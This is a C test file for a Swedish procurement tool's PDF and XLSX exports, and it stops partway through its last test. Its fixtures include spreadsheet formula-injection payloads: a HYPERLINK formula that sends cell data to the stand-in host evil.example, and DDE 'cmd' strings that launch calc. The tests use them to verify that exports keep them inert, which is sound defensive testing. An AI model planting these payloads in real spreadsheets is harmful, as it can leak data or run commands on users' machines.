// SPDX-License-Identifier: GPL-3.0-or-later
/* The documents that leave the application, read back by independent
 * readers: poppler's pdfinfo/pdffonts/pdftotext for the appendix, openpyxl
 * (tests/check-export.py) for the workbooks. The data is put into the
 * database with SQL, so it can hold what no form would accept. */
#include <glib/gstdio.h>
#include <signal.h>
#include <sys/resource.h>

#include "kk-checklist-import.h"
#include "kk-export.h"
#include "kk-store.h"
#include "kk-test-util.h"

#define NOW "2026-03-14T09:30:00Z"

/* Text a spreadsheet or a PDF must show as it is. */
static const char *hostile[] = {
  "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Klicka här\")",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tTabb först i texten",
  "\rVagnretur först i texten",
  "Emoji 🔒🛡️ säkerhet ✅ i texten",
  "مرحبا بالعالم – نص عربي يكتب من اليمين إلى اليسار",
  "שלום עולם – טקסט בעברית מימין לשמאל",
  "ÅÄÖ åäö – Ærø Øresund, Œuvre",
  "Bokstavligt _x0041_ ska läsas som understreck-x-noll-noll-fyra-ett",
};

typedef struct {
  char       *dir;
  char       *db_path;
  KkDatabase *db;
  gint64      procurement;
  gint64      empty_procurement;
  gint64      suppliers[3];
  guint       n_requirements;
  guint       n_shall;
  /* What the test put in, per supplier: SHALL met / not met / unanswered. */
  guint       shall_met[3], shall_not_met[3], shall_unanswered[3];
} Fixture;

static void
exec_sql (Fixture *f, const char *sql)
{
  char *message = NULL;

  if (sqlite3_exec (kk_database_get_handle (f->db), sql, NULL, NULL, &message) != SQLITE_OK)
    g_error ("%s: %s", sql, message);
}

static sqlite3_stmt *
prepare (Fixture *f, const char *sql)
{
  sqlite3_stmt *stmt = NULL;

  g_assert_cmpint (sqlite3_prepare_v2 (kk_database_get_handle (f->db), sql, -1, &stmt, NULL), ==, SQLITE_OK);
  return stmt;
}

static void
step_done (sqlite3_stmt *stmt)
{
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_DONE);
  sqlite3_finalize (stmt);
}

static char *
long_text (guint n_chars, gboolean with_spaces)
{
  static const char *words[] = { "Leverantören", "ska", "säkerställa", "att", "behörighet", "loggning",
                                 "incidenthantering", "och", "kontinuitet", "dokumenteras", "följs", "upp" };
  GString *s = g_string_new (NULL);

  for (guint i = 0; g_utf8_strlen (s->str, -1) < n_chars; i++)
    {
      if (with_spaces && s->len > 0)
        g_string_append_c (s, ' ');
      g_string_append (s, with_spaces ? words[i % G_N_ELEMENTS (words)] : "Säkerhetsskyddsavtalsförhandling");
    }
  return g_string_free (s, FALSE);
}

static char *
code_for (guint i)
{
  return g_strdup_printf ("TST-%c-%03u", 'A' + (i % 26), i);
}

/* A published procurement with @n requirements over three catalogue areas
 * and one the catalogue does not know; the last requirement returns to the
 * first area, so the appendix must group it there. */
static gint64
insert_procurement (Fixture    *f,
                    const char *title,
                    const char *dnr,
                    guint       n,
                    gboolean    with_hostile)
{
  g_autofree char *areas_text = kk_test_sqlite3 (f->db_path, "SELECT code FROM area ORDER BY position, code LIMIT 3");
  g_auto(GStrv) areas = g_strsplit (areas_text, "\n", -1);
  g_autofree char *longest = long_text (4000, TRUE);
  g_autofree char *unbroken = long_text (400, FALSE);
  sqlite3_stmt *stmt;
  gint64 id;

  g_assert_cmpuint (g_strv_length (areas), ==, 3);
  stmt = prepare (f, "INSERT INTO procurement (title, dnr, unit, status, created, published_at, catalog_version) "
                     "VALUES (?, ?, 'Stadsledningskontoret', 'evaluating', ?, ?, (SELECT min (id) FROM catalog_version))");
  sqlite3_bind_text (stmt, 1, title, -1, SQLITE_TRANSIENT);
  sqlite3_bind_text (stmt, 2, dnr, -1, SQLITE_TRANSIENT);
  sqlite3_bind_text (stmt, 3, NOW, -1, SQLITE_STATIC);
  sqlite3_bind_text (stmt, 4, NOW, -1, SQLITE_STATIC);
  step_done (stmt);
  id = sqlite3_last_insert_rowid (kk_database_get_handle (f->db));

  for (guint i = 0; i < n; i++)
    {
      g_autofree char *code = code_for (i);
      g_autofree char *title_sv = g_strdup_printf ("Krav om skydd nummer %u", i + 1);
      g_autofree char *title_en = g_strdup_printf ("Protection requirement number %u", i + 1);
      g_autofree char *text_sv = g_strdup_printf ("Leverantören ska uppfylla skyddskrav %u. Kravet gäller under hela "
                                                  "avtalstiden och omfattar även underleverantörer.", i + 1);
      g_autofree char *text_en = g_strdup_printf ("The supplier shall meet protection requirement %u. It applies "
                                                  "for the whole contract and to subcontractors.", i + 1);
      const char *area = i == n - 1 && n > 4 ? areas[0] : i < n / 4 ? areas[0] : i < n / 2 ? areas[1] :
                         i < 3 * n / 4 ? areas[2] : "ZZ-UNKNOWN";
      const char *verification_sv = "Beskriv rutinen och bifoga den.";
      const char *verification_en = "Describe the procedure and attach it.";

      if (with_hostile)
        {
          guint h = i % (G_N_ELEMENTS (hostile) + 2);

          if (h < G_N_ELEMENTS (hostile))
            {
              /* Titles and texts both carry the hostile strings, in both languages. */
              g_free (title_sv);
              title_sv = g_strdup (hostile[h]);
              g_free (text_sv);
              text_sv = g_strdup_printf ("%s\n%s", hostile[(h + 1) % G_N_ELEMENTS (hostile)], "Andra raden.");
              g_free (title_en);
              title_en = g_strdup (hostile[h]);
              verification_sv = hostile[(h + 2) % G_N_ELEMENTS (hostile)];
            }
          else if (h == G_N_ELEMENTS (hostile))
            {
              g_free (text_sv);
              text_sv = g_strdup (longest);
              g_free (text_en);
              text_en = g_strdup (longest);
            }
          else
            {
              g_free (text_sv);
              text_sv = g_strdup (unbroken);
              g_free (title_sv);
              title_sv = g_strdup (unbroken);
            }
        }

      stmt = prepare (f, "INSERT INTO procurement_requirement (procurement, requirement, code, revision, area, "
                         "title_sv, title_en, text_sv, text_en, verification_sv, verification_en, obligation, kind, "
                         "level, position) VALUES (?, (SELECT min (id) FROM requirement), ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, "
                         "'technical', 'basic', ?)");
      sqlite3_bind_int64 (stmt, 1, id);
      sqlite3_bind_text (stmt, 2, code, -1, SQLITE_TRANSIENT);
      sqlite3_bind_int (stmt, 3, 1 + i % 3);
      sqlite3_bind_text (stmt, 4, area, -1, SQLITE_TRANSIENT);
      sqlite3_bind_text (stmt, 5, title_sv, -1, SQLITE_TRANSIENT);
      sqlite3_bind_text (stmt, 6, title_en, -1, SQLITE_TRANSIENT);
      sqlite3_bind_text (stmt, 7, text_sv, -1, SQLITE_TRANSIENT);
      sqlite3_bind_text (stmt, 8, text_en, -1, SQLITE_TRANSIENT);
      sqlite3_bind_text (stmt, 9, verification_sv, -1, SQLITE_TRANSIENT);
      sqlite3_bind_text (stmt, 10, verification_en, -1, SQLITE_TRANSIENT);
      sqlite3_bind_text (stmt, 11, i % 4 == 3 ? "should" : "shall", -1, SQLITE_STATIC);
      sqlite3_bind_int (stmt, 12, i);
      step_done (stmt);
    }
  return id;
}

static gint64
insert_supplier (Fixture *f, const char *name, const char *org_number)
{
  sqlite3_stmt *stmt = prepare (f, "INSERT INTO supplier (name, org_number, created) VALUES (?, ?, ?)");

  sqlite3_bind_text (stmt, 1, name, -1, SQLITE_TRANSIENT);
  sqlite3_bind_text (stmt, 2, org_number, -1, SQLITE_TRANSIENT);
  sqlite3_bind_text (stmt, 3, NOW, -1, SQLITE_STATIC);
  step_done (stmt);
  return sqlite3_last_insert_rowid (kk_database_get_handle (f->db));
}

static gint64
insert_assessment (Fixture *f, gint64 procurement, gint64 supplier)
{
  g_autofree char *sql = g_strdup_printf ("INSERT INTO assessment (procurement, supplier) VALUES (%" G_GINT64_FORMAT
                                          ", %" G_GINT64_FORMAT ")", procurement, supplier);

  exec_sql (f, sql);
  return sqlite3_last_insert_rowid (kk_database_get_handle (f->db));
}

static void
insert_answer (Fixture    *f,
               gint64      assessment,
               guint       position,
               const char *status,
               const char *comment,
               const char *evidence)
{
  sqlite3_stmt *stmt = prepare (f, "INSERT INTO answer (assessment, procurement_requirement, status, comment, evidence) "
                                   "VALUES (?1, (SELECT pr.id FROM procurement_requirement pr JOIN assessment a "
                                   "ON a.procurement = pr.procurement WHERE a.id = ?1 AND pr.position = ?2), ?3, ?4, ?5)");

  sqlite3_bind_int64 (stmt, 1, assessment);
  sqlite3_bind_int (stmt, 2, position);
  sqlite3_bind_text (stmt, 3, status, -1, SQLITE_STATIC);
  sqlite3_bind_text (stmt, 4, comment ? comment : "", -1, SQLITE_TRANSIENT);
  sqlite3_bind_text (stmt, 5, evidence ? evidence : "", -1, SQLITE_TRANSIENT);
  step_done (stmt);
}

static void
count_answer (Fixture *f, guint s, guint i, const char *status)
{
  if (i % 4 == 3)   /* a SHOULD requirement */
    return;
  if (g_strcmp0 (status, "met") == 0 || g_strcmp0 (status, "not_applicable") == 0)
    f->shall_met[s]++;
  else if (g_strcmp0 (status, "not_met") == 0 || g_strcmp0 (status, "partly_met") == 0)
    f->shall_not_met[s]++;
  else
    f->shall_unanswered[s]++;
}

static void
setup (Fixture *f, gconstpointer data)
{
  static const char *statuses[] = { "met", "partly_met", "not_met", "not_applicable", "unanswered", "met" };
  guint n = GPOINTER_TO_UINT (data) ? GPOINTER_TO_UINT (data) : 40;
  gint64 assessments[3];

  f->db = kk_test_open_db (&f->dir);
  f->db_path = g_strdup (kk_database_get_path (f->db));
  f->n_requirements = n;
  for (guint i = 0; i < n; i++)
    f->n_shall += i % 4 != 3;

  exec_sql (f, "BEGIN");
  f->procurement = insert_procurement (f, "Bevakning av Stadshuset – ÅÄÖ", "SLK 2026/0042", n, TRUE);
  f->empty_procurement = insert_procurement (f, "Tom upphandling", "SLK 2026/0001", 0, FALSE);
  f->suppliers[0] = insert_supplier (f, "Säkra Bevakning AB", "556012-5790");
  f->suppliers[1] = insert_supplier (f, hostile[0], "556703-7485");
  f->suppliers[2] = insert_supplier (f, "Östra Larm & Lås HB", "969712-4527");
  for (guint s = 0; s < 3; s++)
    assessments[s] = insert_assessment (f, f->procurement, f->suppliers[s]);

  for (guint i = 0; i < n; i++)
    {
      /* Supplier 0 meets every SHALL requirement; supplier 1 answers with
       * every status and hostile comments; supplier 2 has not answered. */
      const char *s0 = i % 7 == 0 ? "not_applicable" : "met";
      const char *s1 = statuses[i % G_N_ELEMENTS (statuses)];

      insert_answer (f, assessments[0], i, s0, "Uppfylls enligt bifogad policy.", "Bilaga 3, avsnitt 2");
      insert_answer (f, assessments[1], i, s1, hostile[i % G_N_ELEMENTS (hostile)],
                     hostile[(i + 3) % G_N_ELEMENTS (hostile)]);
      count_answer (f, 0, i, s0);
      count_answer (f, 1, i, s1);
      count_answer (f, 2, i, "unanswered");
    }
  exec_sql (f, "COMMIT");
}

static void
teardown (Fixture *f, gconstpointer data)
{
  g_clear_object (&f->db);
  kk_test_rmdir (f->dir);
  g_free (f->dir);
  g_free (f->db_path);
}

/* ------------------------------------------------------------------ */
/* Reading PDFs with poppler */

static char *
run_tool (const char *tool, const char *arg1, const char *file)
{
  const char *argv[] = { tool, arg1, file, "-", NULL };
  g_autoptr(GError) error = NULL;
  g_autofree char *err = NULL;
  char *out = NULL;
  int status;

  if (arg1 == NULL)
    {
      argv[1] = file;
      argv[2] = g_str_equal (tool, "pdftotext") ? "-" : NULL;
      argv[3] = NULL;
    }
  else if (!g_str_equal (tool, "pdftotext"))
    argv[3] = NULL;
  g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err, &status, &error);
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("%s %s: %s", tool, file, err);
  return out;
}

/* "Key:   value" from pdfinfo. */
static char *
pdfinfo_field (const char *info, const char *key)
{
  g_auto(GStrv) lines = g_strsplit (info, "\n", -1);
  g_autofree char *prefix = g_strconcat (key, ":", NULL);

  for (guint i = 0; lines[i] != NULL; i++)
    if (g_str_has_prefix (lines[i], prefix))
      return g_strstrip (g_strdup (lines[i] + strlen (prefix)));
  return NULL;
}

/* Words separated by single spaces: pdftotext wraps and pads lines. */
static char *
normalise_space (const char *text)
{
  g_auto(GStrv) words = g_strsplit_set (text, " \t\n\r\f", -1);
  GString *out = g_string_new (NULL);

  for (guint i = 0; words[i] != NULL; i++)
    if (*words[i] != '\0')
      {
        if (out->len > 0)
          g_string_append_c (out, ' ');
        g_string_append (out, words[i]);
      }
  return g_string_free (out, FALSE);
}

static guint
count_occurrences (const char *haystack, const char *needle, gboolean whole_word)
{
  gsize n = strlen (needle);
  guint count = 0;

  for (const char *p = strstr (haystack, needle); p != NULL; p = strstr (p + 1, needle))
    {
      if (whole_word && ((p > haystack && !g_ascii_isspace (p[-1])) ||
                         (p[n] != '\0' && !g_ascii_isspace (p[n]))))
        continue;
      count++;
    }
  return count;
}

typedef struct {
  guint  pages;
  char  *text;      /* normalised */
} PdfFacts;

static void
check_pdf (const char *path, const char *lang, const char *expect_title, PdfFacts *facts)
{
  g_autofree char *info = run_tool ("pdfinfo", NULL, path);
  g_autofree char *fonts = run_tool ("pdffonts", NULL, path);
  g_autofree char *raw = run_tool ("pdftotext", "-layout", path);
  g_autofree char *pages = pdfinfo_field (info, "Pages");
  g_autofree char *size = pdfinfo_field (info, "Page size");
  g_autofree char *title = pdfinfo_field (info, "Title");
  g_autofree char *creator = pdfinfo_field (info, "Creator");
  g_auto(GStrv) font_lines = g_strsplit (fonts, "\n", -1);
  double w = 0, h = 0;
  guint n_fonts = 0;

  facts->pages = atoi (pages);
  g_assert_cmpuint (facts->pages, >=, 2);
  g_assert_cmpint (sscanf (size, "%lf x %lf", &w, &h), ==, 2);
  g_assert_cmpint ((int) (w + 0.5), ==, 595);
  g_assert_cmpint ((int) (h + 0.5), ==, 842);
  g_assert_nonnull (strstr (title, expect_title));
  g_assert_cmpstr (creator, ==, "Kravkoll");

  /* pdffonts: two header lines, then one line per font whose "emb" column is yes. */
  for (guint i = 2; font_lines[i] != NULL; i++)
    {
      g_auto(GStrv) cols = NULL;
      guint n_cols;

      if (*font_lines[i] == '\0')
        continue;
      cols = g_strsplit_set (font_lines[i], " ", -1);
      {
        /* Columns from the right: object ID (2), uni, sub, emb. */
        g_autoptr(GPtrArray) words = g_ptr_array_new ();

        for (guint c = 0; cols[c] != NULL; c++)
          if (*cols[c] != '\0')
            g_ptr_array_add (words, cols[c]);
        n_cols = words->len;
        g_assert_cmpuint (n_cols, >=, 7);
        g_assert_cmpstr (g_ptr_array_index (words, n_cols - 5), ==, "yes");
      }
      n_fonts++;
    }
  g_assert_cmpuint (n_fonts, >, 0);

  facts->text = normalise_space (raw);
  {
    g_autofree char *first = g_strdup_printf (g_str_equal (lang, "en") ? "Page 1 of %u" : "Sida 1 av %u", facts->pages);
    g_autofree char *last = g_strdup_printf (g_str_equal (lang, "en") ? "Page %u of %u" : "Sida %u av %u",
                                             facts->pages, facts->pages);
    g_autofree char *beyond = g_strdup_printf (g_str_equal (lang, "en") ? "Page %u of" : "Sida %u av",
                                               facts->pages + 1);

    g_assert_nonnull (strstr (facts->text, first));
    g_assert_nonnull (strstr (facts->text, last));
    g_assert_null (strstr (facts->text, beyond));
  }
}

static void
progress_cb (double fraction, gpointer user_data)
{
  GArray *calls = user_data;

  g_array_append_val (calls, fraction);
}

static void
test_appendix_sv (Fixture *f, gconstpointer data)
{
  g_autofree char *path = g_build_filename (f->dir, "kravbilaga.pdf", NULL);
  g_autofree char *part = g_strconcat (path, ".part", NULL);
  g_autoptr(GArray) calls = g_array_new (FALSE, FALSE, sizeof (double));
  g_autoptr(GError) error = NULL;
  PdfFacts facts = { 0 };
  const char *first_area_two, *body;
  g_autofree char *last_code = code_for (f->n_requirements - 1);

  g_assert_true (kk_export_appendix_pdf (f->db, f->procurement, "sv", path, progress_cb, calls, &error));
  g_assert_no_error (error);
  g_assert_false (g_file_test (part, G_FILE_TEST_EXISTS));

  /* Progress: once per requirement and at the end, rising to 1. */
  g_assert_cmpuint (calls->len, ==, f->n_requirements + 1);
  for (guint i = 1; i < calls->len; i++)
    g_assert_cmpfloat (g_array_index (calls, double, i), >=, g_array_index (calls, double, i - 1));
  g_assert_cmpfloat (g_array_index (calls, double, calls->len - 1), ==, 1.0);

  check_pdf (path, "sv", "Kravbilaga – Bevakning av Stadshuset – ÅÄÖ", &facts);
  g_assert_nonnull (strstr (facts.text, "SLK 2026/0042"));
  g_assert_nonnull (strstr (facts.text, "Kravbilaga"));
  g_assert_nonnull (strstr (facts.text, "Bevakning av Stadshuset – ÅÄÖ"));
  g_assert_nonnull (strstr (facts.text, "Stadsledningskontoret"));
  g_assert_nonnull (strstr (facts.text, "14 mars 2026"));
  g_assert_nonnull (strstr (facts.text, "Så besvarar ni kraven"));
  g_assert_nonnull (strstr (facts.text, "Verifiering:"));
  g_assert_nonnull (strstr (facts.text, "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Klicka här\")"));
  g_assert_nonnull (strstr (facts.text, "ÅÄÖ åäö"));
  g_assert_nonnull (strstr (facts.text, "ZZ-UNKNOWN"));   /* an area the catalogue lacks shows its code */

  for (guint i = 0; i < f->n_requirements; i++)
    {
      g_autofree char *code = code_for (i);

      g_assert_cmpuint (count_occurrences (facts.text, code, TRUE), ==, 1);
    }
  /* The tags: one per requirement in the body (after the title page's footer). */
  body = strstr (facts.text, "Sida 1 av");
  g_assert_cmpuint (count_occurrences (body, "SKA", TRUE), ==, f->n_shall);
  g_assert_cmpuint (count_occurrences (body, "BÖR", TRUE), ==, f->n_requirements - f->n_shall);

  /* The last requirement belongs to the first area: it is printed there, as 1.N. */
  first_area_two = strstr (facts.text, "2.1 ");
  g_assert_nonnull (first_area_two);
  g_assert_true (strstr (facts.text, last_code) < first_area_two);
  g_free (facts.text);
}

static void
test_appendix_en (Fixture *f, gconstpointer data)
{
  g_autofree char *path = g_build_filename (f->dir, "appendix.pdf", NULL);
  g_autoptr(GError) error = NULL;
  PdfFacts facts = { 0 };
  const char *body;

  g_assert_true (kk_export_appendix_pdf (f->db, f->procurement, "en", path, NULL, NULL, &error));
  g_assert_no_error (error);
  check_pdf (path, "en", "Requirement appendix – Bevakning av Stadshuset", &facts);
  g_assert_nonnull (strstr (facts.text, "Requirement appendix"));
  g_assert_nonnull (strstr (facts.text, "How to answer the requirements"));
  g_assert_nonnull (strstr (facts.text, "Verification:"));
  g_assert_nonnull (strstr (facts.text, "Protection requirement number 13"));
  g_assert_nonnull (strstr (facts.text, "14 March 2026"));
  g_assert_null (strstr (facts.text, "Sida "));
  g_assert_null (strstr (facts.text, "Verifiering"));
  body = strstr (facts.text, "Page 1 of");
  g_assert_cmpuint (count_occurrences (body, "SHALL", TRUE), ==, f->n_shall);
  g_assert_cmpuint (count_occurrences (body, "SHOULD", TRUE), ==, f->n_requirements - f->n_shall);
  g_free (facts.text);
}

static void
test_appendix_large (Fixture *f, gconstpointer data)
{
  g_autofree char *path = g_build_filename (f->dir, "stor.pdf", NULL);
  g_autoptr(GError) error = NULL;
  PdfFacts facts = { 0 };

  g_assert_cmpuint (f->n_requirements, ==, 500);
  g_assert_true (kk_export_appendix_pdf (f->db, f->procurement, "sv", path, NULL, NULL, &error));
  g_assert_no_error (error);
  check_pdf (path, "sv", "Kravbilaga", &facts);
  g_assert_cmpuint (facts.pages, >, 50);
  /* Every page numbered once, all with the same total. */
  for (guint p = 1; p <= facts.pages; p++)
    {
      g_autofree char *footer = g_strdup_printf ("Sida %u av %u", p, facts.pages);

      g_assert_cmpuint (count_occurrences (facts.text, footer, FALSE), ==, 1);
    }
  for (guint i = 0; i < f->n_requirements; i++)
    {
      g_autofree char *code = code_for (i);

      g_assert_cmpuint (count_occurrences (facts.text, code, TRUE), ==, 1);
    }
  g_free (facts.text);

  /* No page ends with a heading: the last line above the footer is never an
   * area heading ("3   Area name") nor a requirement's code line. */
  {
    g_autofree char *raw = run_tool ("pdftotext", "-layout", path);
    g_auto(GStrv) pages = g_strsplit (raw, "\f", -1);
    g_autoptr(GRegex) heading = g_regex_new ("^[0-9]+ {2,}\\S", 0, 0, NULL);
    g_autoptr(GRegex) code = g_regex_new ("^TST-[A-Z]-[0-9]+$", 0, 0, NULL);
    guint checked = 0;

    for (guint p = 1; pages[p] != NULL && *pages[p] != '\0'; p++)
      {
        g_auto(GStrv) lines = g_strsplit (pages[p], "\n", -1);
        const char *last = NULL;

        for (guint l = 0; lines[l] != NULL; l++)
          {
            g_strstrip (lines[l]);
            if (*lines[l] != '\0' && !g_str_has_prefix (lines[l], "Sida "))
              last = lines[l];
          }
        g_assert_nonnull (last);
        if (g_regex_match (heading, last, 0, NULL) || g_regex_match (code, last, 0, NULL))
          g_error ("page %u ends with a heading: “%s”", p + 1, last);
        checked++;
      }
    g_assert_cmpuint (checked, ==, facts.pages - 1);
  }
}

/* ------------------------------------------------------------------ */
/* Workbooks, read by openpyxl */

static void
check_python (const char * const *argv, char **out)
{
  g_autofree char *err = NULL;
  int status = kk_test_run_python ("check-export.py", argv, out, &err);

  if (status != 0)
    g_error ("check-export.py %s failed (%d):\n%s", argv[0], status, err);
}

static void
test_checklist (Fixture *f, gconstpointer data)
{
  const char *langs[] = { "sv", "en" };

  for (guint l = 0; l < G_N_ELEMENTS (langs); l++)
    for (guint s = 0; s < 3; s++)
      {
        g_autofree char *path = g_strdup_printf ("%s/checklista-%s-%u.xlsx", f->dir, langs[l], s);
        g_autofree char *pid = g_strdup_printf ("%" G_GINT64_FORMAT, f->procurement);
        g_autofree char *sid = g_strdup_printf ("%" G_GINT64_FORMAT, f->suppliers[s]);
        g_autofree char *out = NULL;
        g_autoptr(GError) error = NULL;

        g_assert_true (kk_export_checklist_xlsx (f->db, f->procurement, f->suppliers[s], langs[l], path, &error));
        g_assert_no_error (error);
        check_python ((const char * const[]) { "checklist", f->db_path, path, pid, sid, langs[l], NULL }, &out);
        /* The checker counts the formula-like strings it saw as strings:
         * supplier 1's answers and the hostile titles guarantee some. */
        g_assert_true (g_str_has_prefix (out, "ok "));
        g_assert_cmpint (atoi (out + 3), >, 0);
      }
}

/* What the checklist import (kk-checklist-import.c) reads back from an
 * untouched export: every row matches, no problems, hostile text included;
 * nothing changes but what the store normalises. */
static void
test_checklist_round_trip (Fixture *f, gconstpointer data)
{
  const char *langs[] = { "sv", "en" };

  for (guint l = 0; l < G_N_ELEMENTS (langs); l++)
    for (guint s = 0; s < 3; s++)
      {
        g_autofree char *path = g_strdup_printf ("%s/retur-%s-%u.xlsx", f->dir, langs[l], s);
        g_autoptr(KkChecklistImport) import = NULL;
        g_autoptr(GError) error = NULL;

        g_assert_true (kk_export_checklist_xlsx (f->db, f->procurement, f->suppliers[s], langs[l], path, &error));
        g_assert_no_error (error);
        import = kk_checklist_import_read (f->db, f->procurement, path, &error);
        g_assert_no_error (error);
        for (guint i = 0; i < import->problems->len; i++)
          {
            KkImportProblem *p = g_ptr_array_index (import->problems, i);

            g_printerr ("%s!%s%u: %s\n", p->sheet, p->column ? p->column : "", p->row, p->message);
          }
        g_assert_cmpuint (import->problems->len, ==, 0);
        /* The only differences: text the store would have trimmed (the
         * fixture wrote "\tTabb…" and "\rVagnretur…" past it with SQL). */
        for (guint i = 0; i < import->changes->len; i++)
          {
            KkImportChange *c = g_ptr_array_index (import->changes, i);
            g_autofree char *comment = kk_store_clean_text (c->old_comment, "comment", KK_MAX_TEXT_LENGTH, TRUE, NULL);
            g_autofree char *evidence = kk_store_clean_text (c->old_evidence, "evidence", KK_MAX_TEXT_LENGTH, TRUE, NULL);

            g_assert_cmpuint (s, ==, 1);
            g_assert_cmpstr (c->status, ==, c->old_status);
            g_assert_cmpstr (c->comment, ==, comment);
            g_assert_cmpstr (c->evidence, ==, evidence);
            g_assert_true (g_strcmp0 (c->comment, c->old_comment) != 0 || g_strcmp0 (c->evidence, c->old_evidence) != 0);
          }
        g_assert_cmpint (import->supplier_id, ==, f->suppliers[s]);
        g_assert_cmpuint (import->unchanged + import->unanswered + import->changes->len, ==, f->n_requirements);
      }
}

static void
test_matrix (Fixture *f, gconstpointer data)
{
  const char *langs[] = { "sv", "en" };

  for (guint l = 0; l < G_N_ELEMENTS (langs); l++)
    {
      g_autofree char *path = g_strdup_printf ("%s/matris-%s.xlsx", f->dir, langs[l]);
      g_autofree char *pid = g_strdup_printf ("%" G_GINT64_FORMAT, f->procurement);
      g_autofree char *out = NULL;
      g_autoptr(GError) error = NULL;

      g_assert_true (kk_export_matrix_xlsx_for_lang (f->db, f->procurement, langs[l], path, &error));
      g_assert_no_error (error);
      check_python ((const char * const[]) { "matrix", f->db_path, path, pid, langs[l], NULL }, &out);

      /* The checker prints what the summary rows say; compare with what was put in. */
      for (guint s = 0; s < 3; s++)
        {
          const char *org[] = { "556012-5790", "556703-7485", "969712-4527" };
          gboolean all = f->shall_not_met[s] == 0 && f->shall_unanswered[s] == 0;
          g_autofree char *line = g_strdup_printf ("summary %s %u %u %u %s\n", org[s], f->shall_met[s],
                                                   f->shall_not_met[s], f->shall_unanswered[s],
                                                   all ? "yes" : "no");

          g_assert_nonnull (strstr (out, line));
        }
    }
  /* Supplier 0 meets everything; the others do not. */
  g_assert_cmpuint (f->shall_not_met[0] + f->shall_unanswered[0], ==, 0);
  g_assert_cmpuint (f->shall_unanswered[2], ==, f->n_shall);
}

static void
test_matrix_big (Fixture *f, gconstpointer data)
{
  /* Above the constant-memory threshold: 40 × 600 cells. */
  g_autofree char *path = g_build_filename (f->dir, "stor-matris.xlsx", NULL);
  g_autofree char *pid = g_strdup_printf ("%" G_GINT64_FORMAT, f->procurement);
  g_autofree char *out = NULL;
  g_autoptr(GError) error = NULL;

  exec_sql (f, "BEGIN");
  for (guint i = 0; i < 597; i++)
    {
      g_autofree char *name = g_strdup_printf ("Leverantör %03u AB", i);
      g_autofree char *org = g_strdup_printf ("5599%06u", i);
      gint64 s = insert_supplier (f, name, org);
      gint64 a = insert_assessment (f, f->procurement, s);

      for (guint r = 0; r < f->n_requirements; r += 1 + i % 5)
        insert_answer (f, a, r, (r + i) % 3 == 0 ? "not_met" : "met", NULL, NULL);
    }
  exec_sql (f, "COMMIT");
  g_assert_true (kk_export_matrix_xlsx_for_lang (f->db, f->procurement, "sv", path, &error));
  g_assert_no_error (error);
  check_python ((const char * const[]) { "matrix", f->db_path, path, pid, "sv", NULL }, &out);
}

/* ------------------------------------------------------------------ */
/* Errors */

static void
assert_no_file (const char *path)
{
  g_autofree char *part = g_strconcat (path, ".part", NULL);

  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
  g_assert_false (g_file_test (part, G_FILE_TEST_EXISTS));
}

static void
test_errors (Fixture *f, gconstpointer data)
{
  g_autofree char *missing_dir = g_build_filename (f->dir, "finns-inte", "x.pdf", NULL);
  g_autofree char *file = g_build_filename (f->dir, "en-fil", NULL);
  g_autofree char *under_file = g_build_filename (file, "x.xlsx", NULL);
  g_autofree char *kept = g_build_filename (f->dir, "behall.pdf", NULL);
  g_autofree char *content = NULL;
  GError *error = NULL;

  g_assert_true (g_file_set_contents (file, "x", -1, NULL));

  /* A directory that does not exist */
  g_assert_false (kk_export_appendix_pdf (f->db, f->procurement, "sv", missing_dir, NULL, NULL, &error));
  g_assert_error (error, KK_EXPORT_ERROR, KK_EXPORT_ERROR_WRITE);
  g_assert_nonnull (strstr (error->message, missing_dir));
  g_clear_error (&error);
  assert_no_file (missing_dir);

  /* A "directory" that is a file */
  g_assert_false (kk_export_checklist_xlsx (f->db, f->procurement, f->suppliers[0], "sv", under_file, &error));
  g_assert_error (error, KK_EXPORT_ERROR, KK_EXPORT_ERROR_WRITE);
  g_assert_nonnull (strstr (error->message, under_file));
  g_clear_error (&error);
  g_assert_false (kk_export_matrix_xlsx (f->db, f->procurement, under_file, &error));
  g_assert_error (error, KK_EXPORT_ERROR, KK_EXPORT_ERROR_WRITE);
  g_assert_nonnull (strstr (error->message, under_file));
  g_clear_error (&error);

  /* No requirements: refused, and an existing file keeps its content. */
  g_assert_true (g_file_set_contents (kept, "gammal", -1, NULL));
  g_assert_false (kk_export_appendix_pdf (f->db, f->empty_procurement, "sv", kept, NULL, NULL, &error));
  g_assert_error (error, KK_EXPORT_ERROR, KK_EXPORT_ERROR_EMPTY);
  g_assert_nonnull (strstr (error->message, "SLK 2026/0001"));
  g_clear_error (&error);
  g_assert_false (kk_export_matrix_xlsx (f->db, f->empty_procurement, kept, &error));
  g_assert_error (error, KK_EXPORT_ERROR, KK_EXPORT_ERROR_EMPTY);
  g_clear_error (&error);
  g_assert_true (g_file_get_contents (kept, &content, NULL, NULL));
  g_assert_cmpstr (content, ==, "gammal");

  /* A supplier not in the procurement, an unknown procurement, a bad language */
  g_assert_false (kk_export_checklist_xlsx (f->db, f->empty_procurement, f->suppliers[0], "sv", kept, &error));
  g_assert_nonnull (error);
  g_clear_error (&error);
  g_assert_false (kk_export_appendix_pdf (f->db, 9999, "sv", kept, NULL, NULL, &error));
  g_assert_error (error, KK_DATABASE_ERROR, KK_DATABASE_ERROR_NOT_FOUND);
  g_clear_error (&error);
  g_assert_false (kk_export_appendix_pdf (f->db, f->procurement, "de", kept, NULL, NULL, &error));
  g_assert_error (error, KK_EXPORT_ERROR, KK_EXPORT_ERROR_INVALID);
  g_clear_error (&error);
}

/* A disk that fills up half way: the file size limit makes write() fail
 * with EFBIG after 8 kB. Run in a subprocess so the limit stays there. */
static void
test_write_fails_midway (Fixture *f, gconstpointer data)
{
  if (g_test_subprocess ())
    {
      const char *kind = g_getenv ("KK_TEST_KIND");
      g_autofree char *path = g_build_filename (f->dir, g_str_equal (kind, "pdf") ? "halv.pdf" : "halv.xlsx", NULL);
      struct rlimit limit = { 8192, 8192 };
      GError *error = NULL;
      gboolean ok;

      signal (SIGXFSZ, SIG_IGN);
      g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &limit), ==, 0);
